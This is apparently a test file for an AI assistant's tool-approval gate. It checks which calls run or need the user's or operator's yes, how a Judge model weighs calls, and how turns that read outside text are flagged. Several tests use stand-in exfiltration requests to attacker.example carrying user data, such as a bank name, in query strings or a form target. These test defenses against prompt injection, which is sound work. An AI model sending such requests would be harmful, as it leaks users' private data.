// Approvals by effect on a real Postgres 17: code decides from the registry's rule (or the operator's setting) whether
// a call runs, is asked about or is refused, and grants it only on this user's yes to the question about this very
// call (its tool and a digest of its inputs); a no, no answer, or a yes about other inputs does not.
import { describe, expect, it } from 'vitest';
import * as assistant from '../../src';
import { useAssistantDatabase } from '../database';
import { createUser, expectFieldError } from '../helpers';

const db = useAssistantDatabase();

const operator = async () => (await assistant.resolveIdentity(db.pool, 'api', 'owner')).userId;

/** The gate's question for a call, asked to `userId` and answered with `answer` (as the ask-user workflow does). */
async function answered(userId: string, question: string, answer: string): Promise<string> {
  const asked = await assistant.askUser(db.pool, userId, { kind: 'approval', question });
  await assistant.receiveMessage(db.pool, userId, { message: answer, replyTo: asked.id });
  return asked.id;
}

async function builtTool(name: string, method: string) {
  const spec = { name, method, url: 'https://api.example.com/x', inputs: [], response: {} };
  await db.pool.query(
    `INSERT INTO assistant.built_tools (name, workflow_id, purpose, spec, status) VALUES ($1, 'wf', 'test', $2, 'active')`,
    [name, JSON.stringify(spec)],
  );
}

describe('deciding', () => {
  it('runs a write at once, and leaves out the run’s own inputs from what is approved', async () => {
    const userId = await createUser(db.pool, 'gate-write');
    const call = { tool: 'delete_task', userId, arguments: { user_id: userId, task_id: 4, deadline: 'x' } };
    expect(await assistant.decideToolApproval(db.pool, call)).toEqual({
      approval: 'granted',
      approval_result: 'delete_task needs no approval',
    });
  });

  it('asks the operator before a destructive tool, naming the call, and refuses it to anyone else', async () => {
    const owner = await operator();
    const decision = await assistant.decideToolApproval(db.pool, {
      tool: 'delete_tool',
      userId: owner,
      arguments: { user_id: owner, name: 'city_weather', turn_id: 7 },
    });
    expect(decision).toMatchObject({
      approval: 'ask',
      question: expect.stringMatching(
        /^May I delete a built tool and its workflow \(name: city_weather\)\? Reply yes to go ahead; anything else stops it\. \[delete_tool [0-9a-f]{12}\]$/,
      ),
    });
    const other = await createUser(db.pool, 'gate-other');
    expect(await assistant.decideToolApproval(db.pool, { tool: 'delete_tool', userId: other, arguments: {} })).toEqual({
      approval: 'refused',
      approval_result: "Not done: delete_tool needs the operator's approval, and only the operator can give it.",
    });
  });

  it('asks before a built tool that sends (POST), not before one that reads (GET)', async () => {
    const userId = await createUser(db.pool, 'gate-run');
    await builtTool('post_invoice', 'POST');
    await builtTool('city_weather', 'GET');
    const run = (name: string) =>
      assistant.decideToolApproval(db.pool, { tool: 'run_tool', userId, arguments: { name, input: '{}' } });
    expect((await run('post_invoice')).approval).toBe('ask');
    expect((await run('city_weather')).approval).toBe('granted');
  });

  it('refuses a call that needs a yes when it comes from outside a conversation (no user to ask)', async () => {
    await builtTool('post_order', 'POST');
    expect(
      await assistant.decideToolApproval(db.pool, {
        tool: 'run_tool',
        userId: '',
        arguments: { name: 'post_order', input: '{}' },
      }),
    ).toEqual({
      approval: 'refused',
      approval_result: 'Not done: run_tool needs a yes, and this call has no user to ask.',
    });
  });

  it('follows the operator’s rule per tool over the default, and goes back to it on "default"', async () => {
    const userId = await createUser(db.pool, 'gate-setting');
    const call = { tool: 'delete_task', userId, arguments: { task_id: 4 } };
    await assistant.updateInstanceSettings(db.pool, { toolApprovals: { delete_task: 'ask-user' } });
    expect((await assistant.decideToolApproval(db.pool, call)).approval).toBe('ask');
    await assistant.updateInstanceSettings(db.pool, { toolApprovals: JSON.stringify({ delete_task: 'default' }) });
    expect((await assistant.getInstanceSettings(db.pool)).toolApprovals).toEqual({});
    expect((await assistant.decideToolApproval(db.pool, call)).approval).toBe('granted');
  });

  it('refuses an unknown tool or rule, and loosening a tool that asks itself, naming the field', async () => {
    await expectFieldError(
      () => assistant.updateInstanceSettings(db.pool, { toolApprovals: { drop_database: 'never' } }),
      'toolApprovals.drop_database',
    );
    await expectFieldError(
      () => assistant.updateInstanceSettings(db.pool, { toolApprovals: { delete_task: 'sometimes' } }),
      'toolApprovals.delete_task',
    );
    await expectFieldError(
      () => assistant.updateInstanceSettings(db.pool, { toolApprovals: { forget_everything: 'never' } }),
      'toolApprovals.forget_everything',
    );
    await expectFieldError(
      () => assistant.decideToolApproval(db.pool, { tool: 'nope', userId: 'x', arguments: {} }),
      'tool',
    );
  });
});

describe('settling', () => {
  async function asked(answer: string) {
    const owner = await operator();
    const call = { tool: 'disable_tool', userId: owner, arguments: { user_id: owner, name: 'city_weather' } };
    const decision = await assistant.decideToolApproval(db.pool, call);
    if (decision.approval !== 'ask') throw new Error('expected a question');
    return { call, questionId: await answered(owner, decision.question, answer) };
  }

  it('grants on the yes to the question about this very call', async () => {
    const { call, questionId } = await asked('yes');
    expect(
      await assistant.settleToolApproval(db.pool, { ...call, questionId, status: 'answered', answer: 'yes' }),
    ).toEqual({
      approval: 'granted',
      approval_result: 'disable_tool was approved by the user',
    });
  });

  it('refuses on a no, and when no answer came in time', async () => {
    const { call, questionId } = await asked('no');
    expect(
      await assistant.settleToolApproval(db.pool, { ...call, questionId, status: 'answered', answer: 'no' }),
    ).toMatchObject({
      approval: 'refused',
      approval_result: 'Not done: the user did not say yes, so disable_tool did not run.',
    });
    expect(
      await assistant.settleToolApproval(db.pool, { ...call, questionId, status: 'expired', answer: '' }),
    ).toMatchObject({ approval: 'refused' });
  });

  it('does not take a yes about other inputs, or a question asked to someone else', async () => {
    const { call, questionId } = await asked('yes');
    const other = { ...call, arguments: { name: 'another_tool' } };
    await expectFieldError(
      () => assistant.settleToolApproval(db.pool, { ...other, questionId, status: 'answered', answer: 'yes' }),
      'questionId',
    );
    const stranger = await createUser(db.pool, 'gate-stranger');
    await expectFieldError(
      () =>
        assistant.settleToolApproval(db.pool, {
          ...call,
          userId: stranger,
          questionId,
          status: 'answered',
          answer: 'yes',
        }),
      'questionId',
    );
  });
});

describe('a turn that read outside text', () => {
  async function turn(userId: string, message: string): Promise<number> {
    const received = await assistant.receiveMessage(db.pool, userId, { message, sessionId: `s-${Math.random()}` });
    if (received.kind !== 'turn') throw new Error('expected a turn');
    return received.turnId;
  }
  const decide = (tool: string, userId: string, args: Record<string, unknown>) =>
    assistant.decideToolApproval(db.pool, { tool, userId, arguments: { user_id: userId, ...args } });

  it('runs a write without a question until a tool brings outside text; then the write asks, saying why', async () => {
    const owner = await operator();
    const turnId = await turn(owner, 'What is the weather in Oslo? Remind me to pack.');
    expect((await decide('create_task', owner, { turn_id: turnId, title: 'pack' })).approval).toBe('granted');
    expect((await decide('web_search', owner, { turn_id: turnId, query: 'weather oslo' })).approval).toBe('granted');
    const asked = await decide('create_task', owner, { turn_id: turnId, title: 'pack' });
    expect(asked).toMatchObject({
      approval: 'ask',
      question: expect.stringMatching(
        /^This request read outside text \(a web page, search results or a tool’s answer\), .*May I create a task/,
      ),
    });
    // Another turn starts clean.
    expect((await decide('create_task', owner, { turn_id: await turn(owner, 'hi'), title: 'x' })).approval).toBe(
      'granted',
    );
  });

  it('asks the operator (on Telegram, else through the outbox) about another user’s such write; only their yes counts', async () => {
    const owner = await operator();
    const userId = await createUser(db.pool, 'gate-outside-user');
    const turnId = await turn(userId, 'read this page for me');
    await decide('read_page', userId, { turn_id: turnId, url: 'https://news.example.com/' });
    const write = { turn_id: turnId, content: 'x' };
    // No Telegram owner: the operator is asked through their outbox (a callback, or pulled), answered by reply_to.
    expect(await decide('remember_memory', userId, write)).toMatchObject({
      approval: 'ask',
      question: expect.stringMatching(/^For another user of the assistant: This request read outside text/),
      ask_user_id: owner,
      ask_channel: 'outbox',
      ask_chat_id: '',
      ask_turn_id: 0,
    });
    await assistant.updateInstanceSettings(db.pool, { ownerTelegramChatId: '4242' });
    await assistant.linkIdentity(db.pool, owner, 'telegram', '4242');
    try {
      const asked = await decide('remember_memory', userId, write);
      expect(asked).toMatchObject({
        approval: 'ask',
        question: expect.stringMatching(/^For another user of the assistant: This request read outside text/),
        ask_user_id: owner,
        ask_channel: 'telegram',
        ask_chat_id: '4242',
        ask_turn_id: 0,
      });
      if (asked.approval !== 'ask') throw new Error('expected a question');
      const call = { tool: 'remember_memory', userId, arguments: { user_id: userId, ...write } };
      // The user cannot answer it for the operator: their own yes is to no question of theirs.
      const mine = await answered(userId, asked.question, 'yes');
      await expectFieldError(
        () => assistant.settleToolApproval(db.pool, { ...call, questionId: mine, status: 'answered', answer: 'yes' }),
        'questionId',
      );
      const operatorsYes = await answered(owner, asked.question, 'yes');
      expect(
        await assistant.settleToolApproval(db.pool, {
          ...call,
          questionId: operatorsYes,
          status: 'answered',
          answer: 'yes',
        }),
      ).toMatchObject({ approval: 'granted' });
    } finally {
      await assistant.updateInstanceSettings(db.pool, { ownerTelegramChatId: null });
    }
  });

  it('holds a fetch of a URL the user never wrote, not one they did', async () => {
    const owner = await operator();
    const turnId = await turn(owner, 'Summarise https://news.example.com/today and example.org/about please');
    expect(
      (await decide('read_page', owner, { turn_id: turnId, url: 'https://attacker.example/?q=notes' })).approval,
    ).toBe('granted');
    // The turn now carries outside text: a URL from elsewhere (a page) waits for a yes.
    const held = await decide('read_page', owner, {
      turn_id: turnId,
      url: 'https://attacker.example/?q=my+bank+is+Erste',
    });
    expect(held.approval).toBe('ask');
    expect(
      (await decide('read_page', owner, { turn_id: turnId, url: 'https://news.example.com/today' })).approval,
    ).toBe('granted');
    expect((await decide('browser_open', owner, { turn_id: turnId, url: 'https://example.org/about' })).approval).toBe(
      'granted',
    );
    expect(
      (await decide('read_page', owner, { turn_id: turnId, url: 'https://example.org/about?id=7' })).approval,
    ).toBe('ask');
  });

  it('reads a link the turn’s web search returned without a question', async () => {
    const owner = await operator();
    const turnId = await turn(owner, 'When is the zoo open?');
    await decide('web_search', owner, { turn_id: turnId, query: 'zoo' });
    await assistant.rememberTurnLinks(db.pool, turnId, ['https://zoo.example/hours']);
    expect((await decide('read_page', owner, { turn_id: turnId, url: 'https://zoo.example/hours' })).approval).toBe(
      'granted',
    );
    expect(
      (await decide('read_page', owner, { turn_id: turnId, url: 'https://zoo.example/hours?u=me' })).approval,
    ).toBe('ask');
  });

  it('lets browser steps inside a task run without a question (their own rule applies)', async () => {
    const owner = await operator();
    const turnId = await turn(owner, 'sign in to https://bank.example/');
    await decide('browser_open', owner, { turn_id: turnId, url: 'https://bank.example/' });
    expect((await decide('browser_click', owner, { turn_id: turnId, ref: '3', sends_form: '' })).approval).toBe(
      'granted',
    );
    const signIn = { turn_id: turnId, ref: '3', sends_form: 'POST https://bank.example/login', sign_in: true };
    expect((await decide('browser_click', owner, signIn)).approval).toBe('granted');
  });

  it('asks before any form after outside text, a GET too', async () => {
    const owner = await operator();
    const turnId = await turn(owner, 'look at https://shop.example/');
    await decide('browser_open', owner, { turn_id: turnId, url: 'https://shop.example/' });
    const search = { turn_id: turnId, ref: '2', sends_form: 'GET https://attacker.example/collect', sign_in: false };
    const decision = await decide('browser_click', owner, search);
    expect(decision).toMatchObject({
      approval: 'ask',
      question: expect.stringContaining('(ref: 2; sends_form: GET https://attacker.example/collect; sign_in: false)'),
    });
  });
});

describe('a click that sends a form', () => {
  const click = (userId: string, sendsForm: string, signIn = false) =>
    assistant.decideToolApproval(db.pool, {
      tool: 'browser_click',
      userId,
      arguments: { user_id: userId, ref: '5', sends_form: sendsForm, sign_in: signIn },
    });

  it('asks before a POST, naming where it goes; not before a GET, a plain click or a sign-in', async () => {
    const userId = await createUser(db.pool, 'gate-form');
    expect(await click(userId, 'POST https://shop.example/checkout')).toMatchObject({
      approval: 'ask',
      question: expect.stringMatching(
        /^May I click an element of the page \(a form it sends is named\) \(ref: 5; sends_form: POST https:\/\/shop\.example\/checkout; sign_in: false\)\?/,
      ),
    });
    expect((await click(userId, 'GET https://shop.example/search')).approval).toBe('granted');
    expect((await click(userId, '')).approval).toBe('granted');
    expect((await click(userId, 'POST https://shop.example/login', true)).approval).toBe('granted');
  });

  it('follows the rule the operator sets for clicks', async () => {
    const userId = await createUser(db.pool, 'gate-form-rule');
    await assistant.updateInstanceSettings(db.pool, { toolApprovals: { browser_click: 'never' } });
    try {
      expect((await click(userId, 'POST https://shop.example/checkout')).approval).toBe('granted');
    } finally {
      await assistant.updateInstanceSettings(db.pool, { toolApprovals: { browser_click: 'default' } });
    }
    expect((await click(userId, 'POST https://shop.example/checkout')).approval).toBe('ask');
  });
});

describe('the judge rule: the Judge decides whether the user is asked', () => {
  async function judged(userId: string, message: string) {
    const received = await assistant.receiveMessage(db.pool, userId, { message, sessionId: `j-${Math.random()}` });
    if (received.kind !== 'turn') throw new Error('expected a turn');
    return { tool: 'forget_memory', userId, arguments: { user_id: userId, turn_id: received.turnId, memory_id: 12 } };
  }

  it('puts the call and the user’s message to the Judge, then asks at or above the threshold', async () => {
    const userId = await createUser(db.pool, 'gate-judge');
    await assistant.updateInstanceSettings(db.pool, {
      toolApprovals: { forget_memory: 'judge' },
      approvalJudgeThreshold: '0.6',
    });
    try {
      const call = await judged(userId, 'Forget the note about my old car');
      expect(await assistant.decideToolApproval(db.pool, call)).toEqual({
        approval: 'judge',
        judge_question: assistant.APPROVAL_JUDGE_QUESTION,
        judge_state: [
          'The user wrote: "Forget the note about my old car"',
          'To answer, the assistant wants to delete one remembered fact (and the executions holding it) (the tool forget_memory, whose effect is write).',
          'Its inputs: memory_id: 12.',
        ].join('\n'),
      });
      expect(await assistant.weighToolApproval(db.pool, { ...call, probability: 0.2 })).toEqual({
        approval: 'granted',
        approval_result: 'forget_memory runs: the Judge saw no need to ask (p(ask) 0.20, threshold 0.60)',
      });
      expect(await assistant.weighToolApproval(db.pool, { ...call, probability: '0.6' })).toMatchObject({
        approval: 'ask',
        question: expect.stringMatching(/^May I delete one remembered fact .*\(memory_id: 12\)\?/),
        ask_user_id: userId,
      });
    } finally {
      await assistant.updateInstanceSettings(db.pool, {
        toolApprovals: { forget_memory: 'default' },
        approvalJudgeThreshold: 0.5,
      });
    }
  });

  it('asks when the Judge gave no answer, saying why; the user’s yes then settles it', async () => {
    const userId = await createUser(db.pool, 'gate-judge-down');
    await assistant.updateInstanceSettings(db.pool, { toolApprovals: { forget_memory: 'judge' } });
    try {
      const call = await judged(userId, 'Forget my old address');
      const down = await assistant.weighToolApproval(db.pool, {
        ...call,
        probability: '',
        error: 'the judge server answered 503',
      });
      expect(down).toMatchObject({
        approval: 'ask',
        question: expect.stringMatching(
          /^The Judge could not weigh this \(the judge server answered 503\), so I ask\. May I/,
        ),
      });
      if (down.approval !== 'ask') throw new Error('expected a question');
      const questionId = await answered(userId, down.question, 'yes');
      expect(
        await assistant.settleToolApproval(db.pool, { ...call, questionId, status: 'answered', answer: 'yes' }),
      ).toMatchObject({ approval: 'granted' });
      expect((await assistant.weighToolApproval(db.pool, { ...call, probability: 'x' })).approval).toBe('ask');
    } finally {
      await assistant.updateInstanceSettings(db.pool, { toolApprovals: { forget_memory: 'default' } });
    }
  });

  it('is not asked in a turn that carried outside text: the outside rule applies', async () => {
    const userId = await createUser(db.pool, 'gate-judge-outside');
    await assistant.updateInstanceSettings(db.pool, { toolApprovals: { forget_memory: 'judge' } });
    try {
      const call = await judged(userId, 'What is the news?');
      await assistant.decideToolApproval(db.pool, {
        tool: 'web_search',
        userId,
        arguments: { turn_id: call.arguments.turn_id, query: 'news' },
      });
      // Another user's careful turn goes to the operator (here through their outbox), not to the Judge.
      expect(await assistant.decideToolApproval(db.pool, call)).toMatchObject({
        approval: 'ask',
        question: expect.stringMatching(/^For another user of the assistant: This request read outside text/),
        ask_channel: 'outbox',
      });
    } finally {
      await assistant.updateInstanceSettings(db.pool, { toolApprovals: { forget_memory: 'default' } });
    }
  });

  it('refuses a threshold outside 0 to 1, naming the field', async () => {
    await expectFieldError(
      () => assistant.updateInstanceSettings(db.pool, { approvalJudgeThreshold: 1.5 }),
      'approvalJudgeThreshold',
    );
    await expectFieldError(
      () => assistant.updateInstanceSettings(db.pool, { approvalJudgeThreshold: 'half' }),
      'approvalJudgeThreshold',
    );
  });
});
